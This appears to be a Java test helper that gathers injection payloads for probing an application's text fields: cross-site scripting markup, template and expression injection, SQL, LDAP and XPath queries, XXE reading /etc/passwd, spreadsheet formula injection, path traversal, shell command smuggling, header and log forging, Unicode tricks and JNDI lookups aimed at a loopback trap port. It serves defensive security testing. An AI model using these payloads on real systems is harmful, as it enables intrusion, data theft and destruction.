package org.bencao.system;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * What attackers type, each short enough for the shortest field of text. All name themselves {@code
 * injected}; what some interpreter would compute is {@link #COMPUTED}.
 */
final class Injections {

  /** The product that expressions ask for; it stands nowhere unless one was evaluated. */
  static final String COMPUTED = "300000021";

  /** The file that a text would make in the server's own folder, if anybody ran it. */
  static final String TOUCHED = "injected.run";

  /** What would be in a log if a line break of ours began a line of its own. */
  static final String FORGED_LINE = "2026-11-26T00:00:00.000Z ERROR [forged]";

  private static final List<String> MARKUP =
      List.of(
          "<script>injected(1)</script>",
          "\"><script>injected(2)</script>",
          "'><script>injected(3)</script>",
          "</textarea><script>injected(4)</script>",
          "</title></style><script>injected(5)</script>",
          "</script><script>injected(6)</script>",
          "]]><script>injected(7)</script><![CDATA[",
          "<![CDATA[<script>injected(8)</script>]]>",
          "<!--><img src=x onerror=injected(9)>-->",
          "<img src=x onerror=injected(10)>",
          "<svg/onload=injected(11)>",
          "<iframe srcdoc='<script>parent.injected(12)</script>'>",
          "<details open ontoggle=injected(13)>",
          "<math><mtext></form><img src=x onerror=injected(14)>",
          "<a href=\"javascript:injected(15)\">injected</a>",
          "<form action=//injected.example><input name=injected>",
          "<base href=//injected.example/>",
          "<meta http-equiv=refresh content=0;url=//injected.example>",
          "<link rel=stylesheet href=//injected.example/18.css>",
          "<style>@import'//injected.example/19.css';</style>",
          "\" onmouseover=\"injected(20)",
          "' onfocus='injected(21)' autofocus='",
          "\" autofocus onfocus=injected(22) x=\"",
          "` onfocus=injected(23) `",
          "javascript:injected(24)",
          "java\tscript:injected(25)",
          "data:text/html,<script>injected(26)</script>",
          "&lt;script&gt;injected(27)&lt;/script&gt;",
          "&#60;script&#62;injected(28)&#60;/script&#62;",
          "%3Cscript%3Einjected(29)%3C%2Fscript%3E",
          "\\u003cscript\\u003einjected(30)\\u003c/script\\u003e",
          "\uFF1Cscript\uFF1Einjected(31)\uFF1C/script\uFF1E",
          "';injected(32);//",
          "\\';injected(33);//",
          "`;${injected(34)};//",
          "\u2028injected(35)\u2029",
          "{\"__proto__\":{\"injected\":36}}");

  private static final List<String> EXPRESSIONS =
      List.of(
          "injected #{100000007*3}",
          "injected ${100000007*3}",
          "injected #{100000007*3}${100000007*3}#{'x'}",
          "injected {{100000007*3}}",
          "injected <%= 100000007*3 %>",
          "injected *{100000007*3} @{100000007*3} $!{100000007*3}",
          "injected #{''.getClass().forName('java.lang.Runtime')}",
          "injected #{request.session.invalidate()}",
          "injected ${env:PATH} ${sys:user.home} ${jboss.home.dir}",
          "injected {0}{name,plural,other{#}}",
          "injected '{' it''s {count, number}",
          "injected %s%n%x%c %1$9999999s",
          "injected %99999999d");

  private static final List<String> QUERIES =
      List.of(
          "injected' or '1'='1",
          "injected'; drop table organisation_person; -- ",
          "injected' union select password_hash from organisation",
          "injected') or sleep(9) or ('",
          "injected\\'; select 1; -- ",
          "injected' or 1=1 order by :name",
          "injected%' or name like '%",
          "injected__%",
          "injected' or count(//*)>0 or '",
          "injected*)(uid=*))(|(uid=*",
          "injected[$ne]=1;{$gt:''}",
          "injected+AND+NOT(*:*)~9^9 field:x \"",
          "<!DOCTYPE injected [<!ENTITY e \"ed\">]>inject&e;",
          "<xi:include parse=\"text\" href=\"file:///etc/passwd\"/>");

  private static final List<String> FORMULAS =
      List.of(
          "=1+1+injected|' /C calc'!A0",
          "+1+1+injected|' /C calc'!A0",
          "-1+1+injected|' /C calc'!A0",
          "@SUM(1+1)*injected|' /C calc'!A0",
          "=HYPERLINK(\"http://injected.example\",\"injected\")",
          "\t=1+1+injected",
          "\r=1+1+injected",
          "\n=1+1+injected",
          "\"=1+1+injected",
          "injected\",=1+1,\"",
          "injected\r\n=1+1,injected");

  private static final List<String> PATHS =
      List.of(
          "../../../../../../etc/passwd?injected",
          "..\\..\\..\\windows\\win.ini?injected",
          "....//....//WEB-INF/web.xml?injected",
          "%2e%2e%2f%2e%2e%2fetc%2fpasswd?injected",
          "/etc/passwd%00.png?injected",
          "file:///etc/passwd?injected",
          "; touch " + TOUCHED + " #",
          "$(touch " + TOUCHED + ")",
          "`touch " + TOUCHED + "`",
          "| touch " + TOUCHED + " |",
          "injected\r\nSet-Cookie: injected=1",
          "injected\nLocation: http://injected.example/",
          "injected%0d%0aSet-Cookie:%20injected=1",
          "injected\u560A\u560DSet-Cookie: injected=1",
          "injected\n" + FORGED_LINE,
          "injected\r" + FORGED_LINE);

  private static final List<String> CHARACTERS =
      List.of(
          "\u202Egpj.injected\u202C.exe",
          "\u2066\u202Einjected\u2069",
          "inj\u200Bected injected",
          "injected\u0000after",
          "injected\u0007\u001B[2J",
          "\uFEFFinjected",
          "injected\uD83C\uDFE5\uD842\uDFB7",
          "injected\uFFFE\uFFFF",
          "injected" + "\u0301".repeat(40));

  private Injections() {}

  /**
   * @param trap a port on loopback at which somebody counts calls
   */
  static List<String> all(int trap) {
    return sample(trap, 1);
  }

  /** Of each kind the first, and one of so many. */
  static List<String> sample(int trap, int every) {
    return Stream.of(MARKUP, EXPRESSIONS, QUERIES, FORMULAS, PATHS, CHARACTERS, calls(trap))
        .flatMap(
            kind ->
                IntStream.range(0, kind.size()).filter(at -> at % every == 0).mapToObj(kind::get))
        .toList();
  }

  private static List<String> calls(int trap) {
    return List.of(
        "${jndi:ldap://127.0.0.1:%d/injected}".formatted(trap),
        "${${::-j}ndi:rmi://127.0.0.1:%d/injected}".formatted(trap),
        "rmi://127.0.0.1:%d/injected".formatted(trap),
        "http://127.0.0.1:%d/injected".formatted(trap),
        "<!DOCTYPE injected SYSTEM \"http://127.0.0.1:%d/\">".formatted(trap),
        "<img src=http://127.0.0.1:%d/injected>".formatted(trap));
  }

  /** All of them, many in one text, for fields that cannot be filled a hundred times. */
  static List<String> packed(int trap, int longest) {
    var packs = new ArrayList<String>();
    var pack = new StringBuilder();
    for (var text : all(trap)) {
      if (!pack.isEmpty() && pack.length() + 1 + text.length() > longest) {
        packs.add(pack.toString());
        pack.setLength(0);
      }
      pack.append(pack.isEmpty() ? "" : " ").append(text);
    }
    packs.add(pack.toString());
    return packs;
  }
}
